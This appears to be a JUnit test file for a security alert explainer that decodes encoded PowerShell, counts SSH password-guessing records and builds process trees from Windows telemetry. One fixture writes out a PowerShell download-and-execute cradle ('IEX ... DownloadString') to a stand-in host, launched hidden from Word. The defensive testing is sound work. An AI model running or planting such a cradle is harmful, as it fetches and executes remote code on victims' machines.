package io.watchfloor.dashboards.alerts.why;

import static org.assertj.core.api.Assertions.assertThat;

import io.watchfloor.dashboards.alerts.views.AlertView;
import io.watchfloor.dashboards.alerts.views.CorrelationCountView;
import io.watchfloor.dashboards.alerts.views.MatchReasonView;
import io.watchfloor.dashboards.alerts.views.ProcessView;
import io.watchfloor.dashboards.alerts.views.TelemetryView;
import io.watchfloor.dashboards.cases.views.CaseReasonsView;
import io.watchfloor.sigma.explain.MatchReason;
import io.watchfloor.sigma.language.Level;
import io.watchfloor.sigma.language.RulePack;
import io.watchfloor.sigma.loading.RuleLoader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.Test;

/** Uses the rules of the built-in pack. */
class ExplainerTest {

    private static final Instant START = Instant.parse("2026-11-24T22:00:00Z");
    private static final RulePack PACK = RuleLoader.builtin().pack();
    private static final Explainer EXPLAINER = new Explainer(PACK);

    private static AlertView alert(String title) {
        String rule = PACK.rules().stream()
                .filter(one -> one.title().equals(title))
                .map(io.watchfloor.sigma.language.Rule::id)
                .findFirst()
                .orElseGet(() -> PACK.correlations().stream()
                        .filter(one -> one.title().equals(title))
                        .map(io.watchfloor.sigma.language.CorrelationRule::id)
                        .findFirst()
                        .orElse(title));
        return new AlertView(
                "alert-" + title.length(),
                rule,
                title,
                new AlertView.AlertSeverity(Level.HIGH, null),
                "host:ws1.corp.example",
                new AlertView.AlertOccurrences(1, START, START),
                AlertView.Status.OPEN,
                new AlertView.Membership(null, List.of()),
                List.of(),
                null);
    }

    private static TelemetryView record(int number, String raw) {
        return TelemetryView.legible("s/1/" + number, START.plusSeconds(number), raw, null);
    }

    private static String process(String guid, String image, String line, String parentGuid, String parent) {
        return """
                {"asset":"ws1.corp.example","logsource":{"product":"windows","category":"process_creation"},"fields":{\
                "ProcessGuid":"%s","Image":"%s","CommandLine":"%s","ParentProcessGuid":"%s","ParentImage":"%s",\
                "User":"CORP\\\\ann"}}""".formatted(guid, image.replace("\\", "\\\\"), line, parentGuid, parent.replace("\\", "\\\\"));
    }

    @Test
    void whatMatchedIsToldInWordsWithTheEncodedCommandBesideIt() {
        AlertView alert = alert("PowerShell Execution With Encoded Command");
        String command = "IEX (New-Object Net.WebClient).DownloadString('https://docs-corp.example/w02')";
        String encoded = Base64.getEncoder().encodeToString(command.getBytes(StandardCharsets.UTF_16LE));
        String raw = process(
                "{1}",
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell.exe -NoP -W Hidden -enc " + encoded,
                "{0}",
                "C:\\WINWORD.EXE");

        TelemetryView shown =
                EXPLAINER.explain(alert, List.of(record(1, raw))).telemetry().getFirst();

        assertThat(shown.because()).extracting(MatchReasonView::says).anyMatch(says -> says.startsWith("CommandLine "));
        assertThat(shown.decoded()).hasSize(1).allSatisfy(decoded -> {
            assertThat(decoded.field()).isEqualTo("CommandLine");
            assertThat(decoded.text()).isEqualTo(command);
            assertThat(decoded.encoded()).isEqualTo(encoded);
        });
    }

    @Test
    void whatWasStoredWithTheMatchStands() {
        List<MatchReasonView> stored = List.of(MatchReasonView.of(new MatchReason("s", "F", "contains", "x", "axb")));
        TelemetryView view = TelemetryView.legible("s/1/1", START, "{\"F\":\"other\"}", stored);
        assertThat(EXPLAINER
                        .explain(alert("No Such Rule"), List.of(view))
                        .telemetry()
                        .getFirst()
                        .because())
                .isEqualTo(stored);
    }

    @Test
    void whatCannotBeReadIsLeftAsItIs() {
        List<TelemetryView> views = List.of(
                TelemetryView.damaged("s/1/1", START),
                record(2, "{\"not\": closed"),
                record(3, "Nov 24 12:03:10 dc01 <b>not JSON</b>"));
        assertThat(EXPLAINER.explain(alert("No Such Rule"), views).telemetry()).isEqualTo(views);
    }

    @Test
    void aCorrelationSaysWhatItCountedInGroups() {
        AlertView alert = alert("Successful Logon After SSH Password Guessing");
        List<TelemetryView> records = new ArrayList<>();
        for (int i = 12; i > 0; i--) {
            records.add(record(
                    i,
                    "Nov 24 22:00:%02d ws1 sshd[99]: Failed password for root from 192.0.2.%d port 22 ssh2"
                            .formatted(i, i % 2 + 1)));
        }
        records.addFirst(
                record(20, "Nov 24 22:00:20 ws1 sshd[99]: Accepted password for root from 192.0.2.1 port 22 ssh2"));

        CorrelationCountView counted =
                Objects.requireNonNull(EXPLAINER.explain(alert, records).counted());

        assertThat(counted.says()).startsWith("Counts ").contains(" within ");
        assertThat(counted.groups()).isNotEmpty().hasSizeLessThan(13);
        assertThat(counted.groups().stream()
                        .mapToLong(CorrelationCountView.Group::count)
                        .sum())
                .isEqualTo(13);
        assertThat(counted.groups().getFirst().title()).isNotNull();
        assertThat(counted.groups().getFirst().firstSeen())
                .isBefore(counted.groups().getFirst().lastSeen());
    }

    @Test
    void theProcessesOfACaseAreATree() {
        AlertView office = alert("Shell Spawned By Office Application");
        AlertView encoded = alert("PowerShell Execution With Encoded Command");
        String shell = process("{B}", "C:\\cmd.exe", "cmd /c x", "{A}", "C:\\WINWORD.EXE");
        String power = process("{C}", "C:\\powershell.exe", "powershell -enc SQBFAFgA", "{B}", "C:\\cmd.exe");

        CaseReasonsView reasons = EXPLAINER.reasons(
                List.of(office, encoded),
                Map.of(office.id(), List.of(record(1, shell)), encoded.id(), List.of(record(2, power))));

        assertThat(reasons.records()).isEqualTo(2);
        assertThat(reasons.processes()).hasSize(1);
        ProcessView word = reasons.processes().getFirst().processes().getFirst();
        assertThat(word.image()).isEqualTo("C:\\WINWORD.EXE");
        assertThat(word.startedAt()).isNull();
        ProcessView cmd = word.children().getFirst();
        assertThat(cmd.commandLine()).isEqualTo("cmd /c x");
        assertThat(cmd.user()).isEqualTo("CORP\\ann");
        assertThat(cmd.alerts()).extracting(ProcessView.AlertName::title).containsExactly(office.title());
        assertThat(cmd.children().getFirst().image()).isEqualTo("C:\\powershell.exe");
        assertThat(reasons.alerts().get(1).decoded()).isNotNull();
    }

    @Test
    void recordsThatLieMakeNoEndlessTree() {
        AlertView alert = alert("Shell Spawned By Office Application");
        List<TelemetryView> records = new ArrayList<>(List.of(
                record(1, process("{A}", "C:\\a.exe", "a", "{B}", "C:\\b.exe")),
                record(2, process("{B}", "C:\\b.exe", "b", "{A}", "C:\\a.exe")),
                record(3, process("{S}", "C:\\s.exe", "s", "{S}", "C:\\s.exe"))));
        for (int i = 0; i < 2_000; i++) {
            records.add(record(10 + i, process("{L" + (i + 1) + "}", "C:\\l.exe", "l", "{L" + i + "}", "C:\\l.exe")));
        }

        List<ProcessView.OfAsset> trees = Explainer.processes(List.of(EXPLAINER.explain(alert, records)));

        assertThat(trees.getFirst().processes().stream()
                        .mapToInt(ExplainerTest::size)
                        .sum())
                .isLessThanOrEqualTo(ProcessForest.MOST);
        assertThat(trees.getFirst().processes())
                .allSatisfy(tree -> assertThat(height(tree)).isLessThanOrEqualTo(ProcessForest.DEEPEST + 1));
    }

    private static int size(ProcessView process) {
        return 1 + process.children().stream().mapToInt(ExplainerTest::size).sum();
    }

    private static int height(ProcessView process) {
        return 1
                + process.children().stream()
                        .mapToInt(ExplainerTest::height)
                        .max()
                        .orElse(0);
    }
}
